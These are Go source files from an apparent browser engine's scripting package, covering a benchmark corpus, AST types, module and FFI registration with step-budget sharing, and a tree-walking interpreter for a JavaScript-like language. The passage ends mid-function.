// corpus when it measures the interpreter against the VM for the
// `script` section of BENCH_engine.json.
var benchCorpus = []string{
	`var total = 0;
	 for (var i = 0; i < 100; i++) {
	   if (i % 3 == 0) { total += i; } else { total += 1; }
	 }
	 total;`,

	`var parts = [];
	 for (var i = 0; i < 40; i++) { parts.push("item-" + i); }
	 var s = parts.join(",");
	 s.length;`,

	`function make(n) { return function(x) { return x + n; }; }
	 var add2 = make(2); var sum = 0;
	 for (var i = 0; i < 50; i++) { sum = add2(sum); }
	 sum;`,

	`var o = {hits: 0, misses: 0};
	 for (var i = 0; i < 60; i++) {
	   if (i % 2 == 0) { o.hits += 1; } else { o.misses += 1; }
	 }
	 o.hits * 1000 + o.misses;`,

	`var ok = 0;
	 for (var i = 0; i < 20; i++) {
	   if (attempt(function() { return Math.floor(i) + parseInt("42"); })) { ok += 1; }
	 }
	 ok;`,
}

// BenchCorpus returns the mixed-phase benchmark corpus sources. The
// caller gets a fresh slice; the sources themselves are immutable.
func BenchCorpus() []string {
	out := make([]string, len(benchCorpus))
	copy(out, benchCorpus)
	return out
}
