package script

// The AST node types. Statements and expressions are separate
// interfaces so the parser's shape mirrors the grammar.

// Stmt is a statement node.
type Stmt interface{ stmtNode() }

// Expr is an expression node.
type Expr interface{ exprNode() }

// Program is a parsed script.
type Program struct {
	Body []Stmt
}

// VarStmt declares a variable with an optional initializer.
type VarStmt struct {
	Name string
	Init Expr // nil for bare declarations
	Line int
}

// VarListStmt declares several variables in the current scope
// ("var a = 1, b = 2;").
type VarListStmt struct {
	Decls []*VarStmt
	Line  int
}

// ExprStmt evaluates an expression for its effects.
type ExprStmt struct {
	X    Expr
	Line int
}

// IfStmt is if/else.
type IfStmt struct {
	Cond Expr
	Then []Stmt
	Else []Stmt // nil when absent
	Line int
}

// WhileStmt is a while loop.
type WhileStmt struct {
	Cond Expr
	Body []Stmt
	Line int
}

// ForStmt is a C-style for loop; any of Init/Cond/Post may be nil.
type ForStmt struct {
	Init Stmt
	Cond Expr
	Post Stmt
	Body []Stmt
	Line int
}

// ReturnStmt returns from the enclosing function.
type ReturnStmt struct {
	X    Expr // nil for bare return
	Line int
}

// BreakStmt exits the innermost loop.
type BreakStmt struct{ Line int }

// ContinueStmt continues the innermost loop.
type ContinueStmt struct{ Line int }

// BlockStmt is a braced statement list.
type BlockStmt struct {
	Body []Stmt
	Line int
}

// FuncDeclStmt is a named function declaration.
type FuncDeclStmt struct {
	Name string
	Fn   *FuncLit
	Line int
}

func (*VarStmt) stmtNode()      {}
func (*VarListStmt) stmtNode()  {}
func (*ExprStmt) stmtNode()     {}
func (*IfStmt) stmtNode()       {}
func (*WhileStmt) stmtNode()    {}
func (*ForStmt) stmtNode()      {}
func (*ReturnStmt) stmtNode()   {}
func (*BreakStmt) stmtNode()    {}
func (*ContinueStmt) stmtNode() {}
func (*BlockStmt) stmtNode()    {}
func (*FuncDeclStmt) stmtNode() {}

// NumberLit is a numeric literal.
type NumberLit struct{ Value float64 }

// StringLit is a string literal.
type StringLit struct{ Value string }

// BoolLit is true/false.
type BoolLit struct{ Value bool }

// NullLit is null.
type NullLit struct{}

// Ident references a variable.
type Ident struct {
	Name string
	Line int
}

// BinaryExpr applies a binary operator.
type BinaryExpr struct {
	Op   string
	L, R Expr
	Line int
}

// UnaryExpr applies a prefix operator (!, -, typeof).
type UnaryExpr struct {
	Op   string
	X    Expr
	Line int
}

// AssignExpr assigns to an identifier, member, or index target. Op is
// "=", "+=", "-=", "*=", or "/=".
type AssignExpr struct {
	Op     string
	Target Expr // Ident, MemberExpr, or IndexExpr
	Value  Expr
	Line   int
}

// CondExpr is the ternary ?: operator.
type CondExpr struct {
	Cond, Then, Else Expr
	Line             int
}

// CallExpr calls a function or method.
type CallExpr struct {
	Fn   Expr
	Args []Expr
	Line int
}

// NewExpr instantiates via a constructor function.
type NewExpr struct {
	Fn   Expr
	Args []Expr
	Line int
}

// MemberExpr accesses a named property (a.b).
type MemberExpr struct {
	X    Expr
	Name string
	Line int
}

// IndexExpr accesses a computed property (a[i]).
type IndexExpr struct {
	X, Index Expr
	Line     int
}

// ObjectLit is {k: v, ...}.
type ObjectLit struct {
	Keys   []string
	Values []Expr
	Line   int
}

// ArrayLit is [v, ...].
type ArrayLit struct {
	Elems []Expr
	Line  int
}

// FuncLit is a function expression.
type FuncLit struct {
	Params []string
	Body   []Stmt
	Line   int
}

func (*NumberLit) exprNode()  {}
func (*StringLit) exprNode()  {}
func (*BoolLit) exprNode()    {}
func (*NullLit) exprNode()    {}
func (*Ident) exprNode()      {}
func (*BinaryExpr) exprNode() {}
func (*UnaryExpr) exprNode()  {}
func (*AssignExpr) exprNode() {}
func (*CondExpr) exprNode()   {}
func (*CallExpr) exprNode()   {}
func (*NewExpr) exprNode()    {}
func (*MemberExpr) exprNode() {}
func (*IndexExpr) exprNode()  {}
func (*ObjectLit) exprNode()  {}
func (*ArrayLit) exprNode()   {}
func (*FuncLit) exprNode()    {}
