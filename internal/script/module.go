package script

import (
	"errors"
	"fmt"
)

// Module is the unit of builtin and FFI registration. A module bundles
// a named group of host bindings (console, math, the browser's DOM
// surface) behind a single Install hook, replacing the older pattern
// of sprinkling env.Define(name, NativeFunc(...)) calls at every call
// site. Hosts compose environments by installing modules:
//
//	env := script.NewEnv()
//	if err := script.Install(env, script.StdModules(console)...); err != nil { ... }
type Module struct {
	// Name identifies the module in installation errors and docs.
	Name string
	// Install binds the module's names into env.
	Install func(env *Env) error
}

// Install installs modules into env in order, stopping at the first
// failure.
func Install(env *Env, mods ...Module) error {
	for _, m := range mods {
		if m.Install == nil {
			continue
		}
		if err := m.Install(env); err != nil {
			return fmt.Errorf("script: install %s: %w", m.Name, err)
		}
	}
	return nil
}

// engine is the part of a running evaluator a native function may use:
// both the tree-walking Interp and the compiled VM implement it, so a
// native callback charges whichever engine invoked it.
type engine interface {
	tick(line int) error
	callValue(fn Value, args []Value, line int) (Value, error)
}

// Ctx is the call context handed to a CtxFunc. It carries the invoking
// engine, so callbacks into script (Call) share the caller's step
// budget instead of running unmetered.
type Ctx struct {
	eng  engine
	line int
}

// Line reports the script line of the call site.
func (c *Ctx) Line() int { return c.line }

// Call invokes a script value (closure or native) from inside a native
// function. The callee's execution charges the calling engine's fuel,
// which is what makes MaxSteps a real bound even across native
// re-entry.
func (c *Ctx) Call(fn Value, args ...Value) (Value, error) {
	if err := c.eng.tick(c.line); err != nil {
		return nil, err
	}
	return c.eng.callValue(fn, args, c.line)
}

// Errorf builds a script exception (a *RuntimeError) at the call site.
func (c *Ctx) Errorf(format string, a ...any) error {
	return &RuntimeError{Line: c.line, Msg: fmt.Sprintf(format, a...)}
}

// CtxFunc is a context-aware native function: the preferred form for
// new host bindings. Unlike NativeFunc it receives a *Ctx, so calling
// back into script shares the engine's fuel and errors carry the call
// site.
type CtxFunc func(ctx *Ctx, args []Value) (Value, error)

// Func wraps a Go function as a named script value with error-as-value
// bridging: a returned Go error becomes a script exception (a
// *RuntimeError named after the function, observable to scripts via
// attempt()), and the cause stays reachable through errors.As — which
// is how security denials remain detectable across the FFI boundary.
func Func(name string, fn func(*Ctx, []Value) (Value, error)) CtxFunc {
	return func(ctx *Ctx, args []Value) (Value, error) {
		v, err := fn(ctx, args)
		if err != nil {
			var re *RuntimeError
			if errors.As(err, &re) {
				return nil, err
			}
			return nil, &RuntimeError{Line: ctx.line, Msg: name, Err: err}
		}
		return v, nil
	}
}
