package script

import (
	"errors"
	"fmt"
	"math"
	"reflect"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
)

// Value is a runtime value: nil (null), float64, string, bool,
// *Object, *Array, *Closure, NativeFunc, CtxFunc, or a HostObject.
type Value any

// Object is a script object (property map).
type Object struct {
	Props map[string]Value
}

// NewObject returns an empty object.
func NewObject() *Object { return &Object{Props: map[string]Value{}} }

// Array is a script array.
type Array struct {
	Elems []Value
}

// Closure is a user-defined function with its captured environment.
type Closure struct {
	Fn  *FuncLit
	Env *Env
}

// NativeFunc is a Go function exposed to scripts.
//
// Deprecated: construct new host bindings with Func, which yields a
// CtxFunc. A CtxFunc carries a *Ctx so callbacks into script charge
// the calling engine's step budget and returned Go errors bridge to
// script exceptions with the binding's name attached. NativeFunc
// remains a supported value type for existing bindings and for
// method values returned from HostGet.
type NativeFunc func(args []Value) (Value, error)

// HostObject is a browser-provided object whose property reads,
// writes, and method calls run native Go code — this is where DOM,
// cookie, and XHR mediation hooks in.
type HostObject interface {
	// HostGet reads a property; it may return a NativeFunc for
	// methods.
	HostGet(name string) (Value, error)
	// HostSet writes a property.
	HostSet(name string, v Value) error
	// HostName names the object for error messages and typeof.
	HostName() string
}

// RuntimeError is a script execution failure. Unwrap exposes the
// underlying cause so security denials (e.g. *dom.DeniedError) remain
// detectable with errors.As through the script boundary.
type RuntimeError struct {
	Line int
	Msg  string
	Err  error // optional cause
}

// Error implements error.
func (e *RuntimeError) Error() string {
	if e.Err != nil {
		return fmt.Sprintf("script: line %d: %s: %v", e.Line, e.Msg, e.Err)
	}
	return fmt.Sprintf("script: line %d: %s", e.Line, e.Msg)
}

// Unwrap exposes the cause.
func (e *RuntimeError) Unwrap() error { return e.Err }

// ErrTooManySteps reports a script exceeding its step budget.
var ErrTooManySteps = errors.New("script: step budget exceeded")

// control-flow signals, implemented as sentinel errors inside the
// evaluator and never escaping Run.
type returnSignal struct{ v Value }
type breakSignal struct{}
type continueSignal struct{}

func (returnSignal) Error() string   { return "return outside function" }
func (breakSignal) Error() string    { return "break outside loop" }
func (continueSignal) Error() string { return "continue outside loop" }

// envGen counts environment mutations globally. The VM's dynamic-read
// caches (see compile.go) treat any Define or assignment anywhere as a
// potential invalidation — coarse, but mutations are rare next to the
// host-global reads the caches serve.
var envGen atomic.Uint64

// Env is a lexical scope.
type Env struct {
	vars   map[string]Value
	parent *Env
}

// NewEnv returns a fresh root environment. The map is pre-sized for a
// standard-library install so the per-script env build doesn't rehash.
func NewEnv() *Env { return &Env{vars: make(map[string]Value, 16)} }

// child opens a nested scope.
func (e *Env) child() *Env { return &Env{vars: map[string]Value{}, parent: e} }

// Define binds a name in this scope.
func (e *Env) Define(name string, v Value) {
	e.vars[name] = v
	envGen.Add(1)
}

// lookup finds the scope holding name.
func (e *Env) lookup(name string) (*Env, bool) {
	for s := e; s != nil; s = s.parent {
		if _, ok := s.vars[name]; ok {
			return s, true
		}
	}
	return nil, false
}

// Get reads a variable.
func (e *Env) Get(name string) (Value, bool) {
	s, ok := e.lookup(name)
	if !ok {
		return nil, false
	}
	return s.vars[name], true
}

// assign writes an existing variable, or defines it at the root (JS
// global semantics for undeclared assignment).
func (e *Env) assign(name string, v Value) {
	envGen.Add(1)
	if s, ok := e.lookup(name); ok {
		s.vars[name] = v
		return
	}
	root := e
	for root.parent != nil {
		root = root.parent
	}
	root.vars[name] = v
}

// Interp executes programs against an environment.
type Interp struct {
	// MaxSteps bounds execution; 0 means the default (1e6).
	MaxSteps int
	steps    int
}

// defaultMaxSteps bounds runaway scripts.
const defaultMaxSteps = 1_000_000

// Run executes the program in env. It returns the value of the last
// expression statement, mirroring a REPL, which makes assertions in
// tests and examples convenient.
func (ip *Interp) Run(prog *Program, env *Env) (Value, error) {
	if ip.MaxSteps == 0 {
		ip.MaxSteps = defaultMaxSteps
	}
	ip.steps = 0
	v, err := ip.execBlock(prog.Body, env)
	if err != nil {
		var rs returnSignal
		if errors.As(err, &rs) {
			return rs.v, nil // top-level return is tolerated
		}
		return nil, err
	}
	return v, nil
}

// RunSource parses and executes source in env.
func (ip *Interp) RunSource(src string, env *Env) (Value, error) {
	prog, err := Parse(src)
	if err != nil {
		return nil, err
	}
	return ip.Run(prog, env)
}

// tick charges one execution step.
func (ip *Interp) tick(line int) error {
	ip.steps++
	if ip.steps > ip.MaxSteps {
		return &RuntimeError{Line: line, Msg: "infinite loop guard", Err: ErrTooManySteps}
	}
	return nil
}

// Steps reports the fuel consumed by the last Run. The differential
// fuzzer asserts it matches the VM's count exactly.
func (ip *Interp) Steps() int { return ip.steps }

// execBlock runs statements, returning the last expression value.
func (ip *Interp) execBlock(body []Stmt, env *Env) (Value, error) {
	var last Value
	for _, s := range body {
		v, err := ip.exec(s, env)
		if err != nil {
			return nil, err
		}
		last = v
	}
	return last, nil
}

// exec runs one statement.
func (ip *Interp) exec(s Stmt, env *Env) (Value, error) {
	switch st := s.(type) {
	case *VarStmt:
		if err := ip.tick(st.Line); err != nil {
			return nil, err
		}
		var v Value
		if st.Init != nil {
			var err error
			v, err = ip.eval(st.Init, env)
			if err != nil {
				return nil, err
			}
		}
		env.Define(st.Name, v)
		return nil, nil
	case *VarListStmt:
		for _, d := range st.Decls {
			if _, err := ip.exec(d, env); err != nil {
				return nil, err
			}
		}
		return nil, nil
	case *FuncDeclStmt:
		env.Define(st.Name, &Closure{Fn: st.Fn, Env: env})
		return nil, nil
	case *ExprStmt:
		return ip.eval(st.X, env)
	case *IfStmt:
		if err := ip.tick(st.Line); err != nil {
			return nil, err
		}
		cond, err := ip.eval(st.Cond, env)
		if err != nil {
			return nil, err
		}
		if Truthy(cond) {
			return ip.execBlock(st.Then, env.child())
		}
		if st.Else != nil {
			return ip.execBlock(st.Else, env.child())
		}
		return nil, nil
	case *WhileStmt:
		for {
			if err := ip.tick(st.Line); err != nil {
				return nil, err
			}
			cond, err := ip.eval(st.Cond, env)
			if err != nil {
				return nil, err
			}
			if !Truthy(cond) {
				return nil, nil
			}
			if _, err := ip.execBlock(st.Body, env.child()); err != nil {
				if errors.As(err, &breakSignal{}) {
					return nil, nil
				}
				if errors.As(err, &continueSignal{}) {
					continue
				}
				return nil, err
			}
		}
	case *ForStmt:
		scope := env.child()
		if st.Init != nil {
			if _, err := ip.exec(st.Init, scope); err != nil {
				return nil, err
			}
		}
		for {
			if err := ip.tick(st.Line); err != nil {
				return nil, err
			}
			if st.Cond != nil {
				cond, err := ip.eval(st.Cond, scope)
				if err != nil {
					return nil, err
				}
				if !Truthy(cond) {
					return nil, nil
				}
			}
			if _, err := ip.execBlock(st.Body, scope.child()); err != nil {
				if errors.As(err, &breakSignal{}) {
					return nil, nil
				}
				if !errors.As(err, &continueSignal{}) {
					return nil, err
				}
			}
			if st.Post != nil {
				if _, err := ip.exec(st.Post, scope); err != nil {
					return nil, err
				}
			}
		}
	case *ReturnStmt:
		var v Value
		if st.X != nil {
			var err error
			v, err = ip.eval(st.X, env)
			if err != nil {
				return nil, err
			}
		}
		return nil, returnSignal{v: v}
	case *BreakStmt:
		return nil, breakSignal{}
	case *ContinueStmt:
		return nil, continueSignal{}
	case *BlockStmt:
		return ip.execBlock(st.Body, env.child())
	default:
		return nil, fmt.Errorf("script: unknown statement %T", s)
	}
}

// eval evaluates one expression.
func (ip *Interp) eval(x Expr, env *Env) (Value, error) {
	switch e := x.(type) {
	case *litValue:
		return e.v, nil
	case *NumberLit:
		return e.Value, nil
	case *StringLit:
		return e.Value, nil
	case *BoolLit:
		return e.Value, nil
	case *NullLit:
		return nil, nil
	case *Ident:
		if err := ip.tick(e.Line); err != nil {
			return nil, err
		}
		v, ok := env.Get(e.Name)
		if !ok {
			return nil, &RuntimeError{Line: e.Line, Msg: fmt.Sprintf("undefined variable %q", e.Name)}
		}
		return v, nil
	case *UnaryExpr:
		v, err := ip.eval(e.X, env)
		if err != nil {
			return nil, err
		}
		switch e.Op {
		case "!":
			return !Truthy(v), nil
		case "-":
			n, ok := v.(float64)
			if !ok {
				return nil, &RuntimeError{Line: e.Line, Msg: "unary - on non-number"}
			}
			return -n, nil
		case "typeof":
			return TypeOf(v), nil
		}
		return nil, &RuntimeError{Line: e.Line, Msg: "unknown unary " + e.Op}
	case *BinaryExpr:
		return ip.evalBinary(e, env)
	case *CondExpr:
		c, err := ip.eval(e.Cond, env)
		if err != nil {
			return nil, err
		}
		if Truthy(c) {
			return ip.eval(e.Then, env)
		}
		return ip.eval(e.Else, env)
	case *AssignExpr:
		return ip.evalAssign(e, env)
	case *ObjectLit:
		obj := NewObject()
		for i, k := range e.Keys {
			v, err := ip.eval(e.Values[i], env)
			if err != nil {
				return nil, err
			}
			obj.Props[k] = v
		}
		return obj, nil
	case *ArrayLit:
		arr := &Array{}
		for _, el := range e.Elems {
			v, err := ip.eval(el, env)
			if err != nil {
				return nil, err
			}
			arr.Elems = append(arr.Elems, v)
		}
		return arr, nil
	case *FuncLit:
		return &Closure{Fn: e, Env: env}, nil
	case *MemberExpr:
		if err := ip.tick(e.Line); err != nil {
			return nil, err
		}
		recv, err := ip.eval(e.X, env)
		if err != nil {
			return nil, err
		}
		return ip.getMember(recv, e.Name, e.Line)
	case *IndexExpr:
		recv, err := ip.eval(e.X, env)
		if err != nil {
			return nil, err
		}
		idx, err := ip.eval(e.Index, env)
		if err != nil {
			return nil, err
		}
		return ip.getIndex(recv, idx, e.Line)
	case *CallExpr:
		return ip.evalCall(e, env)
	case *NewExpr:
		fn, err := ip.eval(e.Fn, env)
		if err != nil {
			return nil, err
		}
		args, err := ip.evalArgs(e.Args, env)
		if err != nil {
			return nil, err
		}
		return ip.callValue(fn, args, e.Line)
	default:
		return nil, fmt.Errorf("script: unknown expression %T", x)
	}
}

// evalBinary evaluates binary operators with short-circuiting for &&
// and ||.
func (ip *Interp) evalBinary(e *BinaryExpr, env *Env) (Value, error) {
	if err := ip.tick(e.Line); err != nil {
		return nil, err
	}
	switch e.Op {
	case "&&":
		l, err := ip.eval(e.L, env)
		if err != nil {
			return nil, err
		}
		if !Truthy(l) {
			return l, nil
		}
		return ip.eval(e.R, env)
	case "||":
		l, err := ip.eval(e.L, env)
		if err != nil {
			return nil, err
		}
		if Truthy(l) {
			return l, nil
		}
		return ip.eval(e.R, env)
	}
	l, err := ip.eval(e.L, env)
	if err != nil {
		return nil, err
	}
	r, err := ip.eval(e.R, env)
	if err != nil {
		return nil, err
	}
	switch e.Op {
	case "+":
		if ls, ok := l.(string); ok {
			return ls + ToString(r), nil
		}
		if rs, ok := r.(string); ok {
			return ToString(l) + rs, nil
		}
		ln, lok := l.(float64)
		rn, rok := r.(float64)
		if lok && rok {
			return ln + rn, nil
		}
		return ToString(l) + ToString(r), nil
	case "-", "*", "/", "%":
		ln, lok := l.(float64)
		rn, rok := r.(float64)
		if !lok || !rok {
			return nil, &RuntimeError{Line: e.Line, Msg: fmt.Sprintf("operator %s needs numbers", e.Op)}
		}
		switch e.Op {
		case "-":
			return ln - rn, nil
		case "*":
			return ln * rn, nil
		case "/":
			return ln / rn, nil
		default:
			return math.Mod(ln, rn), nil
		}
	case "==":
		return Equals(l, r), nil
	case "!=":
		return !Equals(l, r), nil
	case "<", ">", "<=", ">=":
		if ls, lok := l.(string); lok {
			rs, rok := r.(string)
			if !rok {
				return nil, &RuntimeError{Line: e.Line, Msg: "comparing string with non-string"}
			}
			return compareOrdered(e.Op, strings.Compare(ls, rs)), nil
		}
		ln, lok := l.(float64)
		rn, rok := r.(float64)
		if !lok || !rok {
			return nil, &RuntimeError{Line: e.Line, Msg: "comparison needs numbers or strings"}
		}
		switch {
		case ln < rn:
			return compareOrdered(e.Op, -1), nil
		case ln > rn:
			return compareOrdered(e.Op, 1), nil
		default:
			return compareOrdered(e.Op, 0), nil
		}
	}
	return nil, &RuntimeError{Line: e.Line, Msg: "unknown operator " + e.Op}
}

func compareOrdered(op string, cmp int) bool {
	switch op {
	case "<":
		return cmp < 0
	case ">":
		return cmp > 0
	case "<=":
		return cmp <= 0
	default:
		return cmp >= 0
	}
}

// evalAssign handles =, +=, -=, *=, /= on all three target shapes.
func (ip *Interp) evalAssign(e *AssignExpr, env *Env) (Value, error) {
	if err := ip.tick(e.Line); err != nil {
		return nil, err
	}
	value, err := ip.eval(e.Value, env)
	if err != nil {
		return nil, err
	}
	apply := func(old Value) (Value, error) {
		if e.Op == "=" {
			return value, nil
		}
		bin := &BinaryExpr{Op: strings.TrimSuffix(e.Op, "="), Line: e.Line,
			L: &litValue{v: old}, R: &litValue{v: value}}
		return ip.evalBinary(bin, env)
	}
	switch t := e.Target.(type) {
	case *Ident:
		var old Value
		if e.Op != "=" {
			var ok bool
			old, ok = env.Get(t.Name)
			if !ok {
				return nil, &RuntimeError{Line: e.Line, Msg: fmt.Sprintf("undefined variable %q", t.Name)}
			}
		}
		nv, err := apply(old)
		if err != nil {
			return nil, err
		}
		env.assign(t.Name, nv)
		return nv, nil
	case *MemberExpr:
		recv, err := ip.eval(t.X, env)
		if err != nil {
			return nil, err
		}
		var old Value
		if e.Op != "=" {
			old, err = ip.getMember(recv, t.Name, e.Line)
			if err != nil {
				return nil, err
			}
		}
		nv, err := apply(old)
		if err != nil {
			return nil, err
		}
		if err := ip.setMember(recv, t.Name, nv, e.Line); err != nil {
			return nil, err
		}
		return nv, nil
	case *IndexExpr:
		recv, err := ip.eval(t.X, env)
		if err != nil {
			return nil, err
		}
		idx, err := ip.eval(t.Index, env)
		if err != nil {
			return nil, err
		}
		var old Value
		if e.Op != "=" {
			old, err = ip.getIndex(recv, idx, e.Line)
			if err != nil {
				return nil, err
			}
		}
		nv, err := apply(old)
		if err != nil {
			return nil, err
		}
		if err := ip.setIndex(recv, idx, nv, e.Line); err != nil {
			return nil, err
		}
		return nv, nil
	}
	return nil, &RuntimeError{Line: e.Line, Msg: "bad assignment target"}
}

// litValue is an internal expression wrapping an already-computed
// value, used to desugar compound assignment.
type litValue struct{ v Value }

func (*litValue) exprNode() {}

// evalCall evaluates a function or method call. Method calls on host
// objects resolve through HostGet, which typically yields a bound
// NativeFunc.
func (ip *Interp) evalCall(e *CallExpr, env *Env) (Value, error) {
	if err := ip.tick(e.Line); err != nil {
		return nil, err
	}
	fn, err := ip.eval(e.Fn, env)
	if err != nil {
		return nil, err
	}
	args, err := ip.evalArgs(e.Args, env)
	if err != nil {
		return nil, err
	}
	return ip.callValue(fn, args, e.Line)
}

func (ip *Interp) evalArgs(exprs []Expr, env *Env) ([]Value, error) {
	args := make([]Value, 0, len(exprs))
	for _, a := range exprs {
		v, err := ip.eval(a, env)
		if err != nil {
			return nil, err
		}
		args = append(args, v)
	}
	return args, nil
}

// callValue invokes closures and native functions.
func (ip *Interp) callValue(fn Value, args []Value, line int) (Value, error) {
	switch f := fn.(type) {
	case *Closure:
		scope := f.Env.child()
		for i, p := range f.Fn.Params {
			if i < len(args) {
				scope.Define(p, args[i])
			} else {
				scope.Define(p, nil)
			}
		}
		scope.Define("arguments", &Array{Elems: args})
		_, err := ip.execBlock(f.Fn.Body, scope)
		if err != nil {
			var rs returnSignal
			if errors.As(err, &rs) {
				return rs.v, nil
			}
			return nil, err
		}
		return nil, nil
	case *vmClosure:
		// A compiled closure that crossed the engine boundary (e.g. a
		// function declared by a VM run into a shared env): execute it
		// on a machine sharing this interpreter's fuel so the step
		// budget stays unified.
		max := ip.MaxSteps
		if max == 0 {
			max = defaultMaxSteps
		}
		m := &machine{steps: &ip.steps, max: max}
		vargs := make([]vmval, len(args))
		for i, a := range args {
			vargs[i] = unbox(a)
		}
		v, err := m.callClosure(f.fn, f.sc, vargs)
		if err != nil {
			return nil, err
		}
		return box(v), nil
	case NativeFunc:
		v, err := f(args)
		if err != nil {
			var re *RuntimeError
			if errors.As(err, &re) {
				return nil, err
			}
			return nil, &RuntimeError{Line: line, Msg: "native call failed", Err: err}
		}
		return v, nil
	case CtxFunc:
		v, err := f(&Ctx{eng: ip, line: line}, args)
		if err != nil {
			var re *RuntimeError
			if errors.As(err, &re) {
				return nil, err
			}
			return nil, &RuntimeError{Line: line, Msg: "native call failed", Err: err}
		}
		return v, nil
	default:
		return nil, &RuntimeError{Line: line, Msg: fmt.Sprintf("%s is not a function", TypeOf(fn))}
	}
}

// getMember reads obj.name for every receiver shape.
func (ip *Interp) getMember(recv Value, name string, line int) (Value, error) {
	switch r := recv.(type) {
	case HostObject:
		v, err := r.HostGet(name)
		if err != nil {
			return nil, &RuntimeError{Line: line, Msg: fmt.Sprintf("%s.%s", r.HostName(), name), Err: err}
		}
		return v, nil
	case *Object:
		return r.Props[name], nil
	case *Array:
		return arrayMember(r, name), nil
	case string:
		return stringMember(r, name), nil
	case nil:
		return nil, &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot read %q of null", name)}
	}
	return nil, &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot read %q of %s", name, TypeOf(recv))}
}

// arrayMember implements array properties and methods; shared by the
// interpreter and the VM so both expose the same surface.
func arrayMember(r *Array, name string) Value {
	switch name {
	case "length":
		return float64(len(r.Elems))
	case "push":
		return NativeFunc(func(args []Value) (Value, error) {
			r.Elems = append(r.Elems, args...)
			return float64(len(r.Elems)), nil
		})
	case "join":
		return NativeFunc(func(args []Value) (Value, error) {
			sep := ","
			if len(args) > 0 {
				sep = ToString(args[0])
			}
			parts := make([]string, len(r.Elems))
			for i, el := range r.Elems {
				parts[i] = ToString(el)
			}
			return strings.Join(parts, sep), nil
		})
	}
	return nil
}

// stringMember implements the string methods scripts in the corpus
// use.
func stringMember(s, name string) Value {
	switch name {
	case "length":
		return float64(len(s))
	case "indexOf":
		return NativeFunc(func(args []Value) (Value, error) {
			if len(args) == 0 {
				return float64(-1), nil
			}
			return float64(strings.Index(s, ToString(args[0]))), nil
		})
	case "substring":
		return NativeFunc(func(args []Value) (Value, error) {
			start, end := 0, len(s)
			if len(args) > 0 {
				if n, ok := args[0].(float64); ok {
					start = clampIndex(int(n), len(s))
				}
			}
			if len(args) > 1 {
				if n, ok := args[1].(float64); ok {
					end = clampIndex(int(n), len(s))
				}
			}
			if start > end {
				start, end = end, start
			}
			return s[start:end], nil
		})
	case "split":
		return NativeFunc(func(args []Value) (Value, error) {
			if len(args) == 0 {
				return &Array{Elems: []Value{s}}, nil
			}
			parts := strings.Split(s, ToString(args[0]))
			arr := &Array{}
			for _, p := range parts {
				arr.Elems = append(arr.Elems, p)
			}
			return arr, nil
		})
	case "toUpperCase":
		return NativeFunc(func([]Value) (Value, error) { return strings.ToUpper(s), nil })
	case "toLowerCase":
		return NativeFunc(func([]Value) (Value, error) { return strings.ToLower(s), nil })
	case "replace":
		return NativeFunc(func(args []Value) (Value, error) {
			if len(args) < 2 {
				return s, nil
			}
			return strings.Replace(s, ToString(args[0]), ToString(args[1]), 1), nil
		})
	case "charAt":
		return NativeFunc(func(args []Value) (Value, error) {
			i := 0
			if len(args) > 0 {
				if n, ok := args[0].(float64); ok {
					i = int(n)
				}
			}
			if i < 0 || i >= len(s) {
				return "", nil
			}
			return string(s[i]), nil
		})
	default:
		return nil
	}
}

func clampIndex(i, n int) int {
	if i < 0 {
		return 0
	}
	if i > n {
		return n
	}
	return i
}

// setMember writes obj.name.
func (ip *Interp) setMember(recv Value, name string, v Value, line int) error {
	switch r := recv.(type) {
	case HostObject:
		if err := r.HostSet(name, v); err != nil {
			return &RuntimeError{Line: line, Msg: fmt.Sprintf("%s.%s=", r.HostName(), name), Err: err}
		}
		return nil
	case *Object:
		r.Props[name] = v
		return nil
	case nil:
		return &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot set %q of null", name)}
	}
	return &RuntimeError{Line: line, Msg: fmt.Sprintf("cannot set %q of %s", name, TypeOf(recv))}
}

// getIndex reads a[i].
func (ip *Interp) getIndex(recv, idx Value, line int) (Value, error) {
	switch r := recv.(type) {
	case *Array:
		n, ok := idx.(float64)
		if !ok {
			return nil, &RuntimeError{Line: line, Msg: "array index must be a number"}
		}
		i := int(n)
		if i < 0 || i >= len(r.Elems) {
			return nil, nil
		}
		return r.Elems[i], nil
	case *Object:
		return r.Props[ToString(idx)], nil
	case string:
		n, ok := idx.(float64)
		if !ok {
			return stringMember(r, ToString(idx)), nil
		}
		i := int(n)
		if i < 0 || i >= len(r) {
			return nil, nil
		}
		return string(r[i]), nil
	case HostObject:
		return ip.getMember(recv, ToString(idx), line)
	}
	return nil, &RuntimeError{Line: line, Msg: "cannot index " + TypeOf(recv)}
}

// setIndex writes a[i].
func (ip *Interp) setIndex(recv, idx, v Value, line int) error {
	switch r := recv.(type) {
	case *Array:
		n, ok := idx.(float64)
		if !ok {
			return &RuntimeError{Line: line, Msg: "array index must be a number"}
		}
		i := int(n)
		if i < 0 {
			return &RuntimeError{Line: line, Msg: "negative array index"}
		}
		for len(r.Elems) <= i {
			r.Elems = append(r.Elems, nil)
		}
		r.Elems[i] = v
		return nil
	case *Object:
		r.Props[ToString(idx)] = v
		return nil
	case HostObject:
		return ip.setMember(recv, ToString(idx), v, line)
	}
	return &RuntimeError{Line: line, Msg: "cannot index-assign " + TypeOf(recv)}
}

// Truthy implements JavaScript-like truthiness.
func Truthy(v Value) bool {
	switch x := v.(type) {
	case nil:
		return false
	case bool:
		return x
	case float64:
		return x != 0 && !math.IsNaN(x)
	case string:
		return x != ""
	default:
		return true
	}
}

// Equals implements strict-ish equality: same dynamic type and value;
// reference equality for objects, arrays, and functions.
func Equals(l, r Value) bool {
	if l == nil || r == nil {
		return l == nil && r == nil
	}
	switch a := l.(type) {
	case float64:
		b, ok := r.(float64)
		return ok && a == b
	case string:
		b, ok := r.(string)
		return ok && a == b
	case bool:
		b, ok := r.(bool)
		return ok && a == b
	default:
		return refEquals(l, r)
	}
}

// refEquals compares reference values: identity when the dynamic types
// match and are comparable, false otherwise (comparing two function
// values yields false rather than panicking).
func refEquals(l, r Value) bool {
	lt := reflect.TypeOf(l)
	if lt != reflect.TypeOf(r) || !lt.Comparable() {
		return false
	}
	return l == r
}

// TypeOf mirrors the typeof operator.
func TypeOf(v Value) string {
	switch v.(type) {
	case nil:
		return "null"
	case float64:
		return "number"
	case string:
		return "string"
	case bool:
		return "boolean"
	case *Closure, NativeFunc, CtxFunc, *vmClosure:
		return "function"
	case *Array:
		return "array"
	case *Object:
		return "object"
	case HostObject:
		return "object"
	default:
